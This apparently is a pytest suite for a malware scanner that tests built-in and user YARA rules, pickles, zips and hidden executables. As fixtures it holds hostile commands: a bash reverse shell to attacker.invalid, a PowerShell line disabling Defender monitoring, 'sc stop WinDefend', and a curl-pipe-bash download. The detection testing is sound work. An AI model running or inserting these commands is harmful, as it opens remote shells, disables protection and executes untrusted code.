"""Rules that look for malware: the built-in ones, the user's, and rules that are hostile themselves."""

from __future__ import annotations

import base64
import json
import os
import random
import shutil
import subprocess
import time

import pytest

from archives import joblib_array, plain_zip
from assembler import harmless, pickle
from conftest import FOUND, PROGRAM, USAGE, assay, only, scan

SHELL = b"#!/bin/bash\nbash -i >& /dev/tcp/attacker.invalid/4444 0>&1\n"
DEFENDER = b"import os\nos.system('powershell Set-MpPreference -DisableRealtimeMonitoring $true')\n"
RULE = 'rule Marked { meta: description = "Carries the mark." severity = "%s" strings: $a = "ASSAY-HARMLESS-MARK" condition: $a }'
MARK = b"ASSAY-HARMLESS-MARK"


def matches(artifact):
    return [f for f in artifact["findings"] if f["rule"] == "malware.yara"]


def engine(artifact):
    return next(e for e in artifact["engines"] if e["name"] == "yara")


@pytest.fixture
def rules(tmp_path):
    def write(text, name="mine.yar"):
        path = tmp_path / "rules" / name
        path.parent.mkdir(exist_ok=True)
        path.write_text(text)
        return str(path.parent)
    return write


@pytest.fixture
def sample(tmp_path):
    def write(content, name="sample"):
        path = tmp_path / "files" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
        return str(path)
    return write


# The built-in rules --------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("name, content", [
    ("run.sh", SHELL),
    ("setup.py", DEFENDER),
    ("weights.bin", bytes(range(256)) * 40 + SHELL + bytes(range(256)) * 40),
])
def test_malware_in_a_plain_file_is_found_at_its_place(sample, name, content):
    artifact = only(scan(sample(content, name)))
    (found,) = matches(artifact)
    assert artifact["status"] == "unsafe"
    assert content[found["offset"]:].startswith((b"/dev/tcp/", b"bash -i", b"Set-MpPreference", b"sh -i"))
    assert engine(artifact)["status"] == "unsafe" and engine(artifact)["version"].startswith("4.")


def test_malware_in_a_zip_is_found_in_its_member(sample):
    artifact = only(scan(sample(plain_zip(dict([("docs/readme.md", b"# Model\n\nWords.\n"), ("run.sh", SHELL)])), "a.zip")))
    (found,) = matches(artifact)
    assert found["member"] == "run.sh" and artifact["status"] == "unsafe"


def test_malware_in_a_string_of_a_pickle_is_found(sample):
    artifact = only(scan(sample(bytes(pickle(4).binbytes(SHELL).stop()), "a.pkl")))
    assert len(matches(artifact)) == 1 and artifact["status"] == "unsafe"


LARGE = 300_000  #: bytes: such a pickle is swept in a cell beside the one that parses it


def large_pickle(*texts):
    made = pickle(4)
    for text in texts:
        made = made.binbytes(text)
    return bytes(made.stop())


@pytest.mark.parametrize("options", [(), ("--no-secrets",), ("--malware", "full"), ("--jobs", "1")])
def test_malware_and_secrets_in_a_large_pickle_are_found(sample, options):
    token = "glpat-" + "".join(random.Random(7).choices("abcdefghjkmnpqrstuvwxyzABCDEFGHJKMNPQRSTUVWXYZ23456789", k=20))
    content = large_pickle(bytes(LARGE), SHELL, b"token = '" + token.encode() + b"'\n", bytes(LARGE))
    artifact = only(scan(sample(content, "a.pkl"), *options))
    (found,) = matches(artifact)
    assert content[found["offset"]:].startswith((b"/dev/tcp/", b"bash -i", b"sh -i")) and artifact["status"] == "unsafe"
    secrets = [f for f in artifact["findings"] if f["rule"].startswith("secret.")]
    assert len(secrets) == (0 if "--no-secrets" in options else 1)
    assert len({f["fingerprint"] for f in artifact["findings"]}) == len(artifact["findings"])


def test_what_is_a_members_own_is_told_once_and_there(sample):
    """Behind a large pickle lies a zip: its members' bytes are theirs, not the pickle's."""
    content = large_pickle(bytes(LARGE)) + plain_zip({"run.sh": SHELL})
    artifact = only(scan(sample(content, "a.pkl")))
    (found,) = matches(artifact)
    assert found["member"].endswith("run.sh")


LOCAL = b"curl -fsSL http://127.0.0.1:8080/x.sh | bash\n"  #: no malware, and an exception of a rule
DOWNLOAD = b"curl -fsSL http://198.51.100.7/x.sh | bash\n"


@pytest.mark.parametrize("size", [1000, 400_000])
@pytest.mark.parametrize("attack, decoy", [(SHELL, b""), (SHELL, SHELL), (DOWNLOAD, LOCAL)])
def test_what_stands_in_foreign_bytes_hides_nothing(sample, size, attack, decoy):
    """In front of the attack lies an array, whose bytes are a tensor's, or a zip, whose bytes are its member's."""
    tensor = decoy.ljust(size // 8 * 8, b"\0")
    made = pickle(4).empty_list().mark()
    made.raw(bytes(joblib_array(len(tensor) // 8, tensor, stream_at=len(bytes(made)))))
    array = bytes(made.binbytes(attack).appends().stop())
    readme = plain_zip({"README.md": b"# Attacks\n\n" + decoy + bytes(size)})
    archive = bytes(pickle(4).binbytes(readme).binbytes(attack).stop())
    for content in (array, archive):
        artifact = only(scan(sample(content, "a.joblib")))
        assert artifact["status"] == "unsafe", artifact
        assert content.rindex(attack) in range(min(f["offset"] for f in matches(artifact) if not f["member"]) + 1 - len(attack), len(content))


def test_malware_off_in_a_large_pickle(sample):
    artifact = only(scan(sample(large_pickle(bytes(LARGE), SHELL), "a.pkl"), "--malware", "off"))
    assert not matches(artifact) and engine(artifact)["status"] == "unscanned"


@pytest.mark.parametrize("word", [b"/dev/tcp/", b"windefend", b"WinDefend ", b"powershell "])
def test_bytes_full_of_anchors_cost_a_bounded_amount(sample, word):
    began = time.monotonic()
    artifact = only(scan(sample(word * (30_000_000 // len(word)), "a.bin")))
    assert time.monotonic() - began < 60
    assert engine(artifact)["status"] in ("safe", "unsafe", "suspicious", "caution") or engine(artifact)["message"]


def test_malware_at_every_border_of_stretches_is_found(sample):
    """Blocks of 16 and 64 KiB, stretches of 256 KiB that share 64 KiB: what lies across a border is found all the same."""
    attack = b"\nsc stop WinDefend\n"
    for border in (16 << 10, 64 << 10, 256 << 10, 320 << 10, 512 << 10, 1 << 20, (1 << 20) + (256 << 10)):
        for before in (1, 9, len(attack) - 1):
            content = b"\xff" * (border - before) + attack + b"\xff" * (2 << 20)
            assert len(matches(only(scan(sample(content, "a.bin"))))) == 1, (border, before)


def test_a_document_that_tells_about_attacks_is_not_one(sample):
    text = b"# Attacks\n\nAttackers run `bash -i >& /dev/tcp/192.0.2.1/4444 0>&1` to get a shell, and this page tells how to see it.\n"
    artifact = only(scan(sample(text, "SECURITY.md")))
    assert artifact["status"] == "safe"
    assert [f["severity"] for f in matches(artifact)] == ["note"]


def test_what_is_harmless_is_quiet(sample):
    artifact = only(scan(sample(bytes(harmless()), "a.pkl")))
    assert not matches(artifact) and engine(artifact)["status"] == "safe"


def test_the_program_does_not_look_like_what_it_looks_for():
    assert not matches(only(scan(str(PROGRAM))))


def test_malware_off_says_that_nothing_was_looked_for(sample):
    answer = scan(sample(SHELL, "run.sh"), "--malware", "off")
    assert not matches(only(answer)) and engine(only(answer))["status"] == "unscanned"


# The user's rules ----------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("severity, status", [("unsafe", "unsafe"), ("suspicious", "suspicious"), ("caution", "caution"),
                                              ("note", "safe"), ("", "suspicious"), ("high", "suspicious")])
def test_a_match_weighs_what_its_rule_says(sample, rules, severity, status):
    artifact = only(scan(sample(b"words and " + MARK + b" and words\n", "a.txt"), "--yara", rules(RULE % severity)))
    (found,) = matches(artifact)
    assert artifact["status"] == status
    assert found["message"] == "Carries the mark." and found["offset"] == 10 and "Marked" in found["evidence"]


def test_the_rule_set_names_both_sets_of_rules(sample, rules):
    plain = engine(only(scan(sample(b"words\n", "a.txt"))))["rule_set"]
    both = engine(only(scan(sample(b"words\n", "a.txt"), "--yara", rules(RULE % "note"))))["rule_set"]
    assert both.startswith(plain + "+") and len(both) == 33


def test_a_users_rule_looks_into_members_and_archives(sample, rules):
    where = rules(RULE % "unsafe" + '\nrule Zip { condition: uint32(0) == 0x04034b50 }')
    artifact = only(scan(sample(plain_zip(dict([("a/b.bin", b"\x00\x01" + MARK)])), "a.zip"), "--yara", where))
    assert {(f["member"], f["evidence"].split(":")[0]) for f in matches(artifact)} >= {("a/b.bin", "Marked"), ("", "Zip")}


def test_modules_read_hostile_bytes_in_the_cell(sample, rules):
    where = rules('import "pe" import "elf" import "hash" import "math" import "dotnet"\n'
                  'rule Small { condition: filesize < 200 and math.entropy(0, filesize) > 0 '
                  'and hash.sha256(0, filesize) != "" and not pe.is_pe and elf.type == 0 }\n'
                  'rule Pe { condition: pe.is_pe }')
    for content in (b"MZ" + os.urandom(90), b"\x7fELF" + os.urandom(90), bytes(150)):
        artifact = only(scan(sample(content, "a.bin"), "--yara", where))
        assert engine(artifact)["status"] in ("safe", "suspicious") and artifact["confinement"] == "cell+one-shot"


@pytest.mark.skipif(shutil.which("openssl") is None, reason="openssl makes the signature")
def test_signatures_of_windows_programs_are_read_in_the_cell(sample, rules, tmp_path):
    run = lambda *words: subprocess.run(words, cwd=tmp_path, check=True, capture_output=True)
    run("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=nobody.invalid", "-days", "2",
        "-keyout", "k.pem", "-out", "c.pem")
    (tmp_path / "text").write_bytes(b"words")
    run("openssl", "smime", "-sign", "-binary", "-nodetach", "-outform", "DER", "-in", "text", "-signer", "c.pem",
        "-inkey", "k.pem", "-out", "s.der")
    signature = (tmp_path / "s.der").read_bytes()
    head = bytearray(0x400)
    head[:2], head[0x3c] = b"MZ", 0x40
    head[0x40:0x58] = b"PE\0\0" + bytes.fromhex("4c010100000000000000000000000000e0000201")
    head[0x58:0x5a] = b"\x0b\x01"
    entry = 0x58 + 96 + 4 * 8  # data directory of certificates
    head[0x58 + 92] = 16
    head[entry:entry + 8] = (0x400).to_bytes(4, "little") + (len(signature) + 8).to_bytes(4, "little")
    content = bytes(head) + (len(signature) + 8).to_bytes(4, "little") + b"\x00\x02\x02\x00" + signature
    where = rules('import "pe" rule Signed { condition: pe.number_of_signatures == 1 and pe.signatures[0].subject contains "nobody.invalid" }')
    artifact = only(scan(sample(content, "signed.exe"), "--yara", where))
    assert [f["evidence"] for f in matches(artifact)] == ["Signed"], artifact


@pytest.mark.parametrize("text, says", [
    ("rule a {\n  condition: nothing_of_that_name\n}", "mine.yar:2: "),
    ("rule {", "mine.yar:1: "),
    ('include "/etc/hostname"\nrule a { condition: true }', "mine.yar:1: "),
    ('import "magic" rule a { condition: magic.type() == "x" }', '"magic" is not available'),
    ("// nothing\n", "there is no rule here"),
    ("rule a { condition: filename == \"x\" }", "mine.yar:1: "),
])
def test_rules_that_do_not_compile_stop_the_scan(sample, rules, text, says):
    answer = assay("scan", sample(SHELL, "run.sh"), "--yara", rules(text))
    assert answer.code == USAGE and not answer.out
    assert says in answer.err.decode() and "nothing was scanned" in answer.err.decode()
    hostname = open("/etc/hostname").read().strip() if os.path.exists("/etc/hostname") else "-"
    assert len(hostname) < 4 or hostname not in answer.err.decode()


def test_rules_that_are_not_there_stop_the_scan(sample, tmp_path):
    answer = assay("scan", sample(SHELL, "run.sh"), "--yara", str(tmp_path / "absent"))
    assert answer.code == USAGE and b"No such file" in answer.err


def test_rules_that_break_the_compiler_stop_the_scan(sample, rules):
    """Deep nesting and long tangles: whatever the library does with them, the command answers."""
    for text in ("rule a { condition: " + "(" * 200_000 + "true" + ")" * 200_000 + " }",
                 "rule a { strings: $a = /" + "(" * 20_000 + "x" + ")" * 20_000 + "/ condition: $a }",
                 "rule a { strings: $a = { " + "( 01 | " * 5_000 + "02" + " )" * 5_000 + " } condition: $a }"):
        began = time.monotonic()
        answer = assay("scan", sample(SHELL, "run.sh"), "--yara", rules(text))
        assert answer.code in (USAGE, FOUND), answer
        assert time.monotonic() - began < 90
        if answer.code == USAGE:
            assert b"nothing was scanned" in answer.err


def test_a_slow_rule_is_cut_and_never_safe(sample, rules):
    where = rules("rule Never { condition: for all i in (0..1000000000) : (for all j in (0..1000000000) : (i + j != -1)) }")
    began = time.monotonic()
    answer = scan(sample(b"words\n", "a.txt"), sample(SHELL, "run.sh"), "--yara", where)
    assert time.monotonic() - began < 100
    text, shell = (next(a for path, a in answer.artifacts.items() if path.endswith(name)) for name in ("a.txt", "run.sh"))
    assert engine(text)["status"] == "unscanned" and "time" in engine(text)["message"]
    assert shell["status"] == "unsafe" and matches(shell)
    assert "YARA rules" in assay("scan", sample(b"words\n", "a.txt"), "--yara", where).text


def test_rules_that_match_everywhere_cost_a_bounded_amount(sample, rules):
    where = rules("".join(f"rule r{i} {{ condition: true }}\n" for i in range(1500))
                  + 'rule Often { strings: $a = "aa" condition: #a > 3 }')
    artifact = only(scan(sample(b"a" * 5_000_000, "a.txt"), "--yara", where))
    assert artifact["status"] == "suspicious" and engine(artifact)["message"]


# Kept facts ----------------------------------------------------------------------------------------------------------

def test_kept_facts_say_the_same_and_grow_old(sample, tmp_path):
    path = sample(SHELL, "run.sh")
    facts = assay("facts", path).out
    kept = tmp_path / "facts.jsonl"
    kept.write_bytes(facts)
    again = only(assay("judge", str(kept), "--format", "json"))
    assert again["status"] == "unsafe" and matches(again) == matches(only(scan(path)))
    old = facts.decode().replace(engine(again)["rule_set"], "0123456789abcdef")
    kept.write_text(old)
    assert engine(only(assay("judge", str(kept), "--format", "json")))["status"] == "unsafe"
    clean = assay("facts", sample(b"words\n", "a.txt")).out.decode().replace(engine(again)["rule_set"], "0123456789abcdef")
    kept.write_text(clean)
    assert engine(only(assay("judge", str(kept), "--format", "json")))["status"] == "queued"


# Programs where none should be ---------------------------------------------------------------------------------------

def elf():
    head = bytearray(184)
    head[:7] = b"\x7fELF\x02\x01\x01"
    for at, value, n in ((16, 2, 2), (18, 62, 2), (20, 1, 4), (32, 64, 8), (52, 64, 2), (54, 56, 2), (56, 1, 2),
                         (64, 1, 4), (96, 184, 8)):
        head[at:at + n] = value.to_bytes(n, "little")
    return bytes(head)


def safetensors(data):
    header = json.dumps({"w": {"dtype": "U8", "shape": [len(data)], "data_offsets": [0, len(data)]}}).encode()
    header += b" " * (-len(header) % 8)
    return len(header).to_bytes(8, "little") + header + data


def hidden(artifact):
    return [f for f in artifact["findings"] if f["rule"] == "file.hidden-program"]


def test_a_program_inside_a_tensor_is_named_when_asked_for(sample):
    noise = random.Random(1).randbytes(100_000)
    path = sample(safetensors(noise + elf() + noise), "model.safetensors")
    assert not hidden(only(scan(path)))
    artifact = only(scan(path, "--malware", "full"))
    (found,) = hidden(artifact)
    assert artifact["status"] == "suspicious" and "elf" in found["evidence"]


def test_random_tensors_hold_no_program(sample):
    artifact = only(scan(sample(safetensors(random.Random(2).randbytes(20_000_000)), "m.safetensors"), "--malware", "full"))
    assert artifact["status"] == "safe" and not hidden(artifact)


def test_a_program_behind_a_picture_is_named(sample):
    picture = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII=")
    artifact = only(scan(sample(picture + b"words between" + elf(), "a.png")))
    assert len(hidden(artifact)) == 1 and artifact["status"] == "suspicious"


def test_a_document_with_macros_is_named(sample):
    content = plain_zip(dict([("[Content_Types].xml", b"<Types/>"), ("word/vbaProject.bin", b"\x01\x02")]))
    artifact = only(scan(sample(content, "a.docm")))
    assert any(f["rule"] == "file.office-macros" for f in artifact["findings"]) and "office-macros" in artifact["formats"]


def test_a_jar_is_named(sample):
    content = plain_zip(dict([("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\n"), ("A.class", b"\xca\xfe\xba\xbe\0\0\0=" + bytes(20))]))
    assert "jar" in only(scan(sample(content, "a.jar")))["formats"]
